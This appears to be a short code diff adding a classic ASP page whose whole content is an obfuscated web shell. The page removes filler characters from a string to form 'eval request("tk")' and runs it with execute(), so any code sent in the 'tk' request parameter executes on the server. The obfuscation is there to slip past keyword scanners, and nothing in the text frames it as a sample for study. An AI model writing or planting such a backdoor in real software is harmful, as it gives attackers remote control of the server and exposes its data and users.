@@ -1,0 +1,5 @@
+<%
+Dim t
+t = Replace("evQQal reQQquest(""tk"")", "QQ", "")
+execute(t)
+%>
